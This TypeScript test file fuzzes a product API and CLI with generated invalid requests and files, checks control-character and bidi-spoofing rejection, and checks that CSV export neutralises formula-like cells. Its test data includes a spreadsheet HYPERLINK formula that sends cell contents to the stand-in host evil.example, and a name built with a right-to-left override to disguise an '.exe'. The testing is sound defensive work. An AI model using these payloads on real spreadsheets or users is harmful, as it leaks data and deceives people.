// Hostile input, generated (fast-check) from the validation rules: 500 bad API requests and 200
// bad CLI and file inputs per run. Every one gets a 4xx JSON error (or exit 2 with one message),
// never a 5xx or a stack trace, and the table is unchanged afterwards. The seed is printed on a
// failure; FC_SEED=<n> replays a run.
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import pMap from 'p-map';
import { main } from '../../src/cli/main.js';
import { call, deploy, tableSnapshot, type Deployed } from '../helpers/api.js';
import { captureStream } from '../helpers/capture.js';
import { runCli } from '../helpers/cli.js';
import { emulatorClients, useEmulator } from '../helpers/emulator.js';
import {
  badTyped,
  invalidCreateBody,
  invalidCursor,
  invalidId,
  invalidPatchBody,
  invalidQuery,
  invalidStoredRow,
  validProduct,
} from '../helpers/hostile.js';

const seed = Number(process.env.FC_SEED ?? Date.now() % 2 ** 31);
let stack: Deployed | undefined;
const ids: string[] = [];
const emulator = useEmulator(async (handle) => {
  stack = await deploy(handle.endpoint);
  for (const p of fc.sample(validProduct, { numRuns: 5, seed })) {
    const res = await call(`${stack.url}/products`, 'POST', { body: p, token: stack.token });
    ids.push(String(res.body.product_id));
  }
});
const deployed = (): Deployed => {
  if (!stack) throw new Error('not deployed');
  return stack;
};
const snapshot = () => tableSnapshot(emulatorClients(emulator.get().endpoint));

interface Req {
  method: string;
  path: string;
  body?: unknown;
  raw?: string;
  token?: string;
}

function requests(): Req[] {
  const { token } = deployed();
  const id = fc.constantFrom(...ids);
  const query = (q: Record<string, string>) => `/products?${new URLSearchParams(q).toString()}`;
  const kinds: [number, fc.Arbitrary<Req>][] = [
    [160, invalidCreateBody.map((body) => ({ method: 'POST', path: '/products', body, token }))],
    [20, fc.string({ maxLength: 30 }).map((raw) => ({ method: 'POST', path: '/products', raw: `{${raw}`, token }))],
    [120, fc.tuple(id, invalidPatchBody).map(([i, body]) => ({ method: 'PUT', path: `/products/${i}`, body, token }))],
    [
      100,
      fc.tuple(invalidId, fc.constantFrom('GET', 'PUT', 'DELETE')).map(([i, method]) => ({
        method,
        path: `/products/${encodeURIComponent(i)}`,
        ...(method === 'PUT' ? { body: { stock: 1 } } : {}),
        token,
      })),
    ],
    [80, invalidQuery.map((q) => ({ method: 'GET', path: query(q) }))],
    [
      20,
      fc
        .tuple(id, fc.constantFrom('POST', 'PUT', 'DELETE'), fc.option(fc.string({ maxLength: 40 })))
        .map(([i, method, bad]) => ({
          method,
          path: method === 'POST' ? '/products' : `/products/${i}`,
          body: method === 'DELETE' ? undefined : { name: 'x', category: 'y', price: 1, stock: 1 },
          ...(bad === null ? {} : { token: `p1_${bad.replace(/[^\x21-\x7e]/g, '')}` }),
        })),
    ],
  ];
  return kinds.flatMap(([numRuns, arb], k) => fc.sample(arb, { numRuns, seed: seed + k }));
}

describe(`hostile input (FC_SEED=${seed})`, () => {
  it('500 bad API requests: each a 4xx JSON error, the table unchanged', async () => {
    const { url } = deployed();
    const before = await snapshot();
    const all = requests();
    assert.ok(all.length >= 500);
    const answers = await pMap(all, async (r) => ({ r, res: await call(`${url}${r.path}`, r.method, r) }), {
      concurrency: 6,
    });
    const wrong = answers.filter(
      ({ res }) => res.status < 400 || res.status >= 500 || typeof res.body.error !== 'string',
    );
    assert.deepEqual(
      wrong.slice(0, 5).map(({ r, res }) => ({ ...r, token: undefined, status: res.status, answer: res.text })),
      [],
      `${wrong.length} of ${all.length} requests were not refused with a 4xx JSON error`,
    );
    assert.equal(await snapshot(), before, 'nothing written');
  });

  it('200 bad CLI and file inputs: each exit 2 with one message, the table unchanged', async () => {
    const { dir, endpoint } = deployed();
    const before = await snapshot();
    const runs = cliInputs(dir);
    assert.ok(runs.length >= 200);
    const wrong: string[] = [];
    for (const args of runs) {
      const out = captureStream();
      const err = captureStream();
      const argv = ['node', 'projet1', ...args, '--json', '-c', join(dir, 'projet1.config.json')];
      const code = await main([...argv, '--endpoint-url', endpoint], { stdout: out.stream, stderr: err.stream });
      let doc: { ok?: boolean; error?: { exitCode?: number; message?: string } } = {};
      try {
        doc = JSON.parse(out.text()) as typeof doc;
      } catch {
        /* reported below */
      }
      const fine = code === 2 && doc.ok === false && doc.error?.exitCode === 2 && !/\n\s+at /.test(out.text());
      if (!fine) wrong.push(`${JSON.stringify(args)} → exit ${code}: ${out.text()}${err.text()}`.slice(0, 400));
    }
    assert.deepEqual(wrong.slice(0, 5), [], `${wrong.length} of ${runs.length} inputs were not refused cleanly`);
    assert.equal(await snapshot(), before, 'nothing written');
  });
});

const FLAG: Record<string, string> = {
  name: '--name',
  category: '--category',
  price: '--price',
  stock: '--stock',
  description: '--description',
  expires_at: '--expires-at',
};
function cliInputs(dir: string): string[][] {
  const id = fc.constantFrom(...ids);
  const base = (p: Record<string, unknown>) => Object.entries(p).flatMap(([k, v]) => [FLAG[k] ?? k, String(v)]);
  let file = 0;
  const write = (ext: string, text: string): string => {
    const path = join(dir, `bad-${file++}.${ext}`);
    writeFileSync(path, text);
    return path;
  };
  // One bad row among good ones: the file is refused whole (import is all or nothing).
  const badFile = fc
    .tuple(fc.array(validProduct, { minLength: 1, maxLength: 4 }), invalidStoredRow, fc.constantFrom('jsonl', 'json'))
    .map(([good, bad, ext]) => {
      const rows = [...good, bad];
      const text = ext === 'json' ? JSON.stringify(rows) : rows.map((r) => JSON.stringify(r)).join('\n');
      return ['products', 'import', write(ext, text)];
    });
  // CSV holds text only: a lone surrogate cannot be written in UTF-8, so CSV rows break the other rules.
  const badCsv = fc
    .tuple(validProduct, fc.constantFrom('name', 'category', 'price', 'stock', 'description'))
    .chain(([p, f]) => badTyped(f, { surrogates: false }).map((v) => ({ ...p, [f]: v })))
    .map((row) => ['products', 'import', write('csv', stringify([row], { header: true }))]);
  const kinds: [number, fc.Arbitrary<string[]>][] = [
    [
      60,
      fc
        .tuple(validProduct, fc.constantFrom('name', 'category', 'price', 'stock', 'description', 'expires_at'))
        .chain(([p, f]) => badTyped(f).map((v) => ['products', 'create', ...base({ ...p, [f]: v })])),
    ],
    [
      20,
      fc
        .tuple(id, fc.constantFrom('price', 'stock', 'name'))
        .chain(([i, f]) => badTyped(f).map((v) => ['products', 'update', i, FLAG[f] ?? '', v])),
    ],
    [30, fc.tuple(invalidId, fc.constantFrom('get', 'delete')).map(([i, verb]) => ['products', verb, i, '--yes'])],
    [
      20,
      invalidQuery
        // The CLI pages up to 1000 (the API up to 100).
        .filter((q) => !(q.limit && /^\d+$/.test(q.limit) && Number(q.limit) >= 1 && Number(q.limit) <= 1000))
        .map((q) => ['products', 'list', ...Object.entries(q).flatMap(([k, v]) => [`--${k}`, v])]),
    ],
    [10, invalidCursor.map((c) => ['products', 'list', '--cursor', c, '--category', 'books'])],
    [40, badFile],
    [20, badCsv],
    [10, invalidCreateBody.map((b) => ['products', 'create', '--file', write('json', JSON.stringify(b))])],
  ];
  return kinds.flatMap(([numRuns, arb], k) => fc.sample(arb, { numRuns, seed: seed + 100 + k }));
}

describe('text that spoofs a screen, and formulas in a spreadsheet', () => {
  const cli = (...args: string[]) => runCli([...args, '--endpoint-url', deployed().endpoint], { cwd: deployed().dir });

  it('one rule for the API and the CLI: a bidi override, a CSI, DEL or a line break in a name, the same message', async () => {
    const { url, token } = deployed();
    const before = await snapshot();
    for (const [name, message] of [
      ['Lamp \u202egpj.exe', 'must not contain bidirectional-text controls (U+202E)'],
      ['Lamp \u009b2J', 'must not contain control characters (U+009B)'],
      ['Lamp\u007f', 'must not contain control characters (U+007F)'],
      ['Lamp\nPrice: 0.01', 'must be one line, without line breaks or tabs (U+000A)'],
    ] as const) {
      const res = await call(`${url}/products`, 'POST', { body: { name, category: 'c', price: 1, stock: 1 }, token });
      assert.equal(res.status, 400, res.text);
      assert.deepEqual(res.body.details, [{ field: 'name', message }]);
      const run = await cli('products', 'create', '--name', name, '--category', 'c', '--price', '1', '--stock', '1');
      assert.equal(run.code, 2, run.stderr);
      assert.ok(run.stderr.includes(`name: ${message}`), run.stderr);
    }
    assert.equal(await snapshot(), before, 'nothing written');
  });

  it('CSV export writes formula-like text behind a quote, and import brings it back exactly', async () => {
    const { url, token, dir } = deployed();
    const texts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '@SUM(A1:A9)', "'=quoted by its author", '+33 1 23'];
    for (const name of texts) {
      const res = await call(`${url}/products`, 'POST', {
        body: { name, category: '-sale', price: 1, stock: 1 },
        token,
      });
      assert.equal(res.status, 201, res.text);
    }
    const csv = join(dir, 'formulas.csv');
    assert.equal((await cli('products', 'export', '--format', 'csv', '--out', csv)).code, 0);
    const cells = (parse(readFileSync(csv, 'utf8'), { from_line: 2 }) as string[][]).flat();
    assert.deepEqual(
      cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
      [],
      'no cell a spreadsheet would run',
    );
    assert.ok(
      cells.includes(`'=HYPERLINK("http://evil.example/?"&A1,"x")`) && cells.includes(`''=quoted by its author`),
    );
    const sorted = (text: string) => text.trim().split('\n').sort().join('\n');
    const before = sorted((await cli('products', 'export')).stdout);
    const imported = await cli('products', 'import', csv);
    assert.equal(imported.code, 0, imported.stderr);
    const after = sorted((await cli('products', 'export')).stdout);
    assert.equal(after, before, 'every name and category as it was, quotes included');
    for (const name of texts) assert.ok(after.includes(JSON.stringify(name)), name);
  });
});
